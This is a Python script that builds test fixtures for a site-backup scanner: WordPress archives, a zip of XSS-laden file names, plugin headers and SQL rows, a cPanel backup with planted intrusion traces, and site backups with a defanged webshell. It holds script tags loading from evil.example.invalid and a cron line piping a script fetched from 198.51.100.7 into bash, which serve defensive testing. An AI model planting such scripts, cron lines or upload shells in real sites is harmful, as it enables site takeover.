#!/usr/bin/env python3
"""Writes the archives the end-to-end test drops into the page (into tests/e2e/out/fixtures).

- debian-wordpress.zip: Debian's real WordPress 6.1.9 tree (as cached by the native tests or
  scripts/make-sample.py) — a real ZIP, not ours.
- big.zip: ~600 MB of incompressible stored entries, so a scan runs long enough to cancel.
- hostile-names.zip: file names and plugin headers made of HTML and script.
- not-an-archive.txt: a text file.
- cpanel-backup.tar.gz: a cPanel full backup (home directory, crontab, SSH keys, forwarders,
  userdata, account lists) with an intruder's cron line, key, script in tmp/ and symlink to /;
  everything planted is defanged (see tests/data/README.md).
- wordpress-6.1.9.zip: the same tree shaped like an official release archive (reference).
- site-2026-06-01.zip, site-2026-06-05.zip, site-2026-06-08.zip: a series of backups of one
  small site, the last with a defanged webshell (tests/data/malware/chopper.php).
"""
import base64, io, os, struct, sys, tarfile, zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(ROOT, "tests", "e2e", "out", "fixtures")
os.makedirs(OUT, exist_ok=True)

wp = os.path.join(ROOT, "target", "test-data", "wordpress", "usr", "share", "wordpress")


def zip_tree(name, prefix):
    """Zips the regular files of Debian's WordPress tree under `prefix` (once)."""
    dst = os.path.join(OUT, name)
    if os.path.exists(dst):
        return
    with zipfile.ZipFile(dst + ".tmp", "w", zipfile.ZIP_DEFLATED) as z:
        for d, _, names in os.walk(wp):
            for n in sorted(names):
                p = os.path.join(d, n)
                if os.path.isfile(p) and not os.path.islink(p):
                    z.write(p, prefix + os.path.relpath(p, wp))
    os.replace(dst + ".tmp", dst)


zip_tree("debian-wordpress.zip", "public_html/")
# The "official release" a user would download, wrapped in wordpress/ like wordpress.org zips.
zip_tree("wordpress-6.1.9.zip", "wordpress/")

big = os.path.join(OUT, "big.zip")
if not os.path.exists(big):
    block = os.urandom(1 << 20)
    with zipfile.ZipFile(big + ".tmp", "w", zipfile.ZIP_STORED) as z:
        for i in range(60):
            with z.open("site/media/video-%02d.mp4" % i, "w") as f:
                for j in range(10):
                    f.write(block[j:] + block[:j])
    os.replace(big + ".tmp", big)

with zipfile.ZipFile(os.path.join(OUT, "hostile-names.zip"), "w") as z:
    z.writestr("public_html/<img src=x onerror=\"document.title='pwned'\">.php", "<?php")
    z.writestr("public_html/<script>document.title='pwned'</script>.js", "x")
    z.writestr("public_html/javascript:alert(1).html", "x")
    z.writestr("public_html/invoice\u202egpj.php", "x")
    z.writestr("public_html/wp-includes/version.php", "<?php $wp_version = '<b>6.4</b>';")
    z.writestr("public_html/wp-content/plugins/x/x.php", "<?php /* Plugin Name: <img src=x onerror=\"document.title='pwned'\">\nVersion: <script>1</script> */")
    # CSS injection in a plugin name, markup in a config secret, in file contents (shown as
    # excerpts) and in SQL rows (accounts, injected posts).
    z.writestr("public_html/wp-content/plugins/y/y.php", "<?php\n/*\n * Plugin Name: </style><style>body{display:none}</style>\n * Version: 1\u202e2\n */\n")
    z.writestr("public_html/wp-config.php", "<?php\ndefine( 'DB_NAME', 'site' );\ndefine( 'DB_USER', '<b>u</b>' );\ndefine( 'DB_PASSWORD', '<script>document.title=1</script>' );\n")
    z.writestr("public_html/wp-content/themes/t/footer.php", "<?php wp_footer(); ?>\n<script>document.title='pwned';var s=document.createElement('script');s.src='https://evil.example.invalid/x.js';document.body.appendChild(s)</script><style>body{display:none}</style>\n")
    z.writestr("backup/site.sql", "\n".join([
        "CREATE TABLE `wp_users` (`ID` bigint(20), `user_login` varchar(60), `user_pass` varchar(255), `user_email` varchar(100), `user_registered` datetime);",
        "INSERT INTO `wp_users` VALUES (1,'jane','$P$Bnotreal','jane@example.com','2021-04-12 08:00:00'),(7,'<img src=x onerror=\\\"document.title=\\'pwned\\'\\\">','$P$Bnotreal2','javascript:alert(1)','2024-03-05 10:22:00');",
        "CREATE TABLE `wp_usermeta` (`umeta_id` bigint(20), `user_id` bigint(20), `meta_key` varchar(255), `meta_value` longtext);",
        "INSERT INTO `wp_usermeta` VALUES (1,1,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}'),(9,7,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}');",
        "CREATE TABLE `wp_posts` (`ID` bigint(20), `post_title` text, `post_content` longtext);",
        "INSERT INTO `wp_posts` VALUES (12,'<script>document.title=\\'pwned\\'</script>','<p>Hi</p><script src=\\\"https://evil.example.invalid/j.js\\\"></script><iframe src=\\\"javascript:alert(1)\\\"></iframe>');",
    ]) + "\n")

def key(fill):
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes([fill]) * 32
    return base64.b64encode(blob).decode()


with tarfile.open(os.path.join(OUT, "cpanel-backup.tar.gz"), "w:gz") as t:
    B = "backup-8.1.2024_03-00-00_jane/"
    OLD, NEW = 1698900000, 1722136000
    def add(name, data, mtime=OLD):
        info = tarfile.TarInfo(B + name)
        info.size, info.mtime = len(data), mtime
        t.addfile(info, io.BytesIO(data))
    def link(name, target):
        info = tarfile.TarInfo(B + name)
        info.type, info.linkname, info.mtime = tarfile.SYMTYPE, target, NEW
        t.addfile(info)
    add("version", b"archive version: 4\n")
    add("cp/jane", b"DNS=janes-bakery.example\nUSER=jane\n")
    add("cron/jane", b"*/15 * * * * /usr/local/bin/php /home/jane/public_html/wp-cron.php >/dev/null 2>&1\n*/10 * * * * curl -fsSL http://198.51.100.7/u.sh | bash >/dev/null 2>&1\n", NEW)
    add("userdata/main", b"---\nmain_domain: janes-bakery.example\nsub_domains: []\n")
    add("userdata/janes-bakery.example", b"---\ndocumentroot: /home/jane/public_html\nservername: janes-bakery.example\n")
    add("va/janes-bakery.example", b"info@janes-bakery.example: jane.private@mail.example\n")
    add("proftpdpasswd", b"jane:$6$REDACTED:1001:1001::/home/jane:/bin/ftpsh\n")
    add("homedir/.ssh/authorized_keys", ("ssh-ed25519 %s jane@laptop\nssh-ed25519 %s deploy@build-7\n" % (key(1), key(2))).encode(), NEW)
    add("homedir/etc/janes-bakery.example/passwd", b"info:x:1001:1001::/home/jane/mail/janes-bakery.example/info:/home/jane\n")
    add("homedir/public_html/index.php", b"<?php\nrequire __DIR__ . '/wp-blog-header.php';\n")
    add("homedir/public_html/wp-includes/version.php", b"<?php\n$wp_version = '6.5.5';\n")
    add("homedir/tmp/.sess/up.php", b"<?php __halt_compiler();\nmove_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n", NEW)
    link("homedir/www", "public_html")
    link("homedir/public_html/wp-content/uploads/sym/root", "/")

# A series of backups of one small site: clean on June 1 and 5, a defanged webshell planted
# in the uploads by June 8 (dated like the site's files, as an intruder would).
SHELL = open(os.path.join(ROOT, "tests", "data", "malware", "chopper.php"), "rb").read()
def site_zip(name, extra=()):
    stamp = (2026, 5, 20, 9, 30, 0)
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_DEFLATED) as z:
        files = [("public_html/index.php", b"<?php\nrequire __DIR__ . '/inc/page.php';\n"),
                 ("public_html/inc/page.php", b"<?php\nfunction page($n) { echo htmlspecialchars($n); }\n")]
        files += [("public_html/articles/post-%d.html" % i, b"<p>Post %d</p>" % i) for i in range(12)]
        for n, data in list(files) + list(extra):
            z.writestr(zipfile.ZipInfo(n, stamp), data)
site_zip("site-2026-06-01.zip")
site_zip("site-2026-06-05.zip", [("public_html/articles/new.html", b"<p>New</p>")])
site_zip("site-2026-06-08.zip", [("public_html/articles/new.html", b"<p>New</p>"),
                                 ("public_html/wp-content/uploads/2026/06/cache.php", SHELL)])

with open(os.path.join(OUT, "not-an-archive.txt"), "w") as f:
    f.write("Dear support, my site is hacked. Regards, Jane\n" * 20)
print(OUT)
